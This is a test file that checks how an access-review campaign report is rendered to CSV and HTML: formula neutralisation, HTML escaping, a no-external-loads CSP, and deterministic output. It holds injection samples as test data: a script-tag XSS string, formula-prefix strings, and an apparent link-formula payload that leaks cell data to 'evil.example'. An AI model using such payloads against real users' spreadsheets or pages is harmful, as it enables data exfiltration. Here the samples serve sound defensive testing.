// The report's renderers: the CSV parses back (csv-parse) to the report's rows with formulas
// neutralised; the HTML page escapes what it shows, carries the totals and two SVG charts, and
// refers to nothing outside itself. (test/browser/campaign-report.test.ts opens it in Chromium.)
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import type { CampaignReport } from '../../../lambdas/shared/domain/reports/campaign-report.js';
import { drawReportCharts } from '../../../lambdas/shared/presenters/campaign-report-charts.js';
import { CSV_COLUMNS, esc, renderReport, renderReportCsv, renderReportHtml, spreadsheetSafe, SUMMARY_FIGURES } from '../../../lambdas/shared/presenters/campaign-report-views.js';
import { buildCampaignReport } from '../../../lambdas/shared/use-cases/reports/campaign-report.js';
import { BOB_COMMENT, E1, E2, E3, FORMULA_COMMENT, REPORT_CAMPAIGN_ID, seedReportCampaign } from '../../support/report-campaign.js';

let report: CampaignReport;
beforeAll(async () => {
  const world = await seedReportCampaign();
  report = await buildCampaignReport({ campaigns: world.campaigns, approvals: world.approvals, directory: world.directory }, REPORT_CAMPAIGN_ID, {
    now: new Date('2026-07-25T00:00:00.000Z'),
  });
});

describe('CSV', () => {
  it('has a header row and one CRLF-terminated record per row, and parses back to the same rows', () => {
    const csv = renderReportCsv(report);
    expect(csv.startsWith('campaign_id,run_id,stage,entry_id,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parse(csv, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(records).toHaveLength(10);
    expect(Object.keys(records[0]!)).toEqual(CSV_COLUMNS.map(([name]) => name));
    records.forEach((record, i) => {
      const row = report.rows[i]!;
      expect(record).toMatchObject({
        campaign_id: REPORT_CAMPAIGN_ID,
        run_id: `${REPORT_CAMPAIGN_ID}#1`,
        stage: String(row.stage),
        entry_id: row.entryId,
        entry_state: row.entryState,
        subject_name: row.subjectName,
        approver_ids: row.approverIds.join(';'),
        item_id: row.itemId,
        user_id: row.userId,
        privilege_id: row.privilegeId,
        decision: row.decision ?? '',
        decided_by: row.decidedBy ?? '',
        decided_at: row.decidedAt ?? '',
        counted: String(row.counted),
        result: row.result ?? '',
        outcome: row.outcome ?? '',
        applied_action: row.appliedAction ?? '',
        workflow_state: row.workflowState ?? '',
      });
    });
    const byItem = (entryId: string, itemId: string) => records[report.rows.findIndex((r) => r.entryId === entryId && r.itemId === itemId)]!;
    // A comment with a comma, quotes and a line break survives the round trip.
    expect(byItem(E2, 'p-wiki')).toMatchObject({ comment: BOB_COMMENT, modified_parameters: '{"project":null}', outcome: 'KEPT' });
    expect(byItem(E1, 'p-payments')).toMatchObject({ modified_end_date: '2026-12-31T00:00:00.000Z', comment: 'until year end', counted: 'false' });
  });

  it('says how each removal was read back from the directory', () => {
    const records = parse(renderReportCsv(report), { columns: true }) as Record<string, string>[];
    const row = (entryId: string, itemId: string) => records.find((r) => r.entry_id === entryId && r.item_id === itemId)!;
    expect(row(E1, 'p-wiki')).toMatchObject({ verification: 'ABSENT', verified_at: '2026-07-15T06:00:01.000Z', verified_origin: '' });
    expect(row(E3, 'p-ledger')).toMatchObject({ verification: 'STILL_PRESENT', verified_at: '2026-07-15T06:00:01.000Z' });
    expect(records.filter((r) => r.verification !== '')).toHaveLength(2);
  });

  it('neutralises a formula in a comment with a leading apostrophe', () => {
    const records = parse(renderReportCsv(report), { columns: true }) as Record<string, string>[];
    const wiki = records.find((r) => r.entry_id === E1 && r.item_id === 'p-wiki')!;
    expect(wiki.comment).toBe(`'${FORMULA_COMMENT}`);
    expect(records.every((r) => Object.values(r).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
  });

  it('neutralises every character a spreadsheet starts a formula with, and nothing else', () => {
    for (const risky of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(spreadsheetSafe(risky)).toBe(`'${risky}`);
    for (const plain of ['1', 'a=b', ' =1', "'quoted", '']) expect(spreadsheetSafe(plain)).toBe(plain);
  });
});

describe('HTML', () => {
  let html: string;
  beforeAll(async () => {
    html = await renderReportHtml(report, drawReportCharts);
  });

  it('shows every total with a stable id, as the report counts it', () => {
    // keptByGuard is given only when the guard kept something (docs/reference/guards.md): this run's guard kept nothing.
    expect(report.totals.keptByGuard).toBeUndefined();
    expect(html).not.toContain('data-total="keptByGuard"');
    for (const { key } of SUMMARY_FIGURES.filter((f) => f.key !== 'keptByGuard')) {
      expect(html).toContain(`data-total="${key}"`);
      expect(html).toMatch(new RegExp(`<dd id="total-${key}">${report.totals[key]}</dd>`));
    }
  });

  it('lists the removals still present in a section of their own, before the reviewers, and marks their item rows', () => {
    const section = html.slice(html.indexOf('<section id="still-present"'), html.indexOf('</section>', html.indexOf('<section id="still-present"')));
    expect(html.indexOf('<section id="still-present"')).toBeLessThan(html.indexOf('<section id="reviewers"'));
    expect(section).toContain('<h2 id="still-present-title">Revocations still present</h2>');
    expect(section).toContain('<strong>1 assignment the run removed is still in the directory</strong> when read back');
    expect(section.match(/<tr class="still-present">/g)).toHaveLength(1);
    expect(section).toContain('Alice Archer<br><code>alice</code></td><td>Ledger<br><code>p-ledger</code>');
    expect(section).toContain('2026-07-15 06:00:01 UTC');
    const items = html.slice(html.indexOf('<section id="items"'));
    expect(items.match(/<tr class="counted still-present">/g)).toHaveLength(1);
    expect(items).toContain('<strong>STILL PRESENT</strong> 2026-07-15 06:00:01 UTC');
    expect(items).toContain('verified absent 2026-07-15 06:00:01 UTC');
  });

  it('shows no such section when every removal is gone, and a dash for a report written before verification existed', async () => {
    const clean = { ...report, rows: report.rows.map(({ verification: _v, verifiedAt: _a, ...r }) => r), totals: { ...report.totals, stillPresent: 0 } };
    expect(await renderReportHtml(clean, drawReportCharts)).not.toContain('id="still-present"');
    const { stillPresent: _s, ...older } = report.totals;
    expect(await renderReportHtml({ ...clean, totals: older }, drawReportCharts)).toContain('<dd id="total-stillPresent">–</dd>');
  });

  it('draws both charts as inline SVG with marks', () => {
    for (const id of ['chart-decisions-over-time', 'chart-decisions-per-approver']) {
      const figure = html.slice(html.indexOf(`<figure id="${id}"`), html.indexOf('</figure>', html.indexOf(`<figure id="${id}"`)));
      expect(figure).toMatch(/<svg[^>]*class="marks"/);
      expect(figure).toMatch(/class="mark-rect role-mark/);
    }
  });

  it('escapes everything it shows, so a name or comment cannot become markup', () => {
    expect(html).toContain('<h1>Finance &lt;high-risk&gt; access</h1>');
    expect(html).not.toContain('<high-risk>');
    expect(html).toContain(esc(FORMULA_COMMENT));
    expect(esc(`<script>alert("x")</script>&'`)).toBe('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;&amp;&#39;');
  });

  it('loads nothing: no script, link, image, frame or URL outside the text, and a CSP that forbids any', () => {
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none';`);
    expect(html).not.toMatch(/<(script|link|img|iframe|object|embed)\b/i);
    expect(html).not.toMatch(/\b(src|href|xlink:href|srcset|action)\s*=/i);
    expect(html).not.toMatch(/url\(/i);
    expect(html).not.toMatch(/@import/i);
    // The only URL in the page is inside the (escaped) comment text.
    expect(html.match(/https?:\/\/[^\s"'<)]*/g)).toEqual(['http://evil.example/?leak=&quot;&amp;A1,&quot;click']);
  });

  it('has print styles and highlights rubber stamps', async () => {
    expect(html).toContain('@media print');
    const stricter = await renderReportHtml(
      { ...report, reviewers: report.reviewers.map((r) => (r.approverId === 'carol' ? { ...r, rubberStamp: true, rubberStampReason: 'approved <all>' } : r)) },
      drawReportCharts,
    );
    expect(stricter).toMatch(/<tr class="rubber-stamp" data-rubber-stamp="true" data-approver="carol">.*<strong>Rubber stamp<\/strong>: approved &lt;all&gt;/);
    expect(stricter).toContain('<strong>1 reviewer is flagged as a rubber stamp</strong>');
  });

  it('is the same bytes every time (an evidence pack re-built after a kill must hash the same)', async () => {
    expect(await renderReportHtml(report, drawReportCharts)).toBe(html);
  });

  it('says so instead of drawing an empty chart when nothing was decided', async () => {
    const empty = await renderReportHtml({ ...report, decisionsPerDay: [], reviewers: [] }, drawReportCharts);
    expect(empty).not.toContain('<svg');
    expect(empty.match(/No decision yet\./g)).toHaveLength(3);
  });
});

describe('renderReport', () => {
  it('renders the format asked for', async () => {
    expect(JSON.parse(await renderReport(report, 'json', drawReportCharts))).toEqual(report);
    expect(await renderReport(report, 'csv', drawReportCharts)).toBe(renderReportCsv(report));
    expect(await renderReport(report, 'html', drawReportCharts)).toMatch(/^<!DOCTYPE html>/);
  });
});
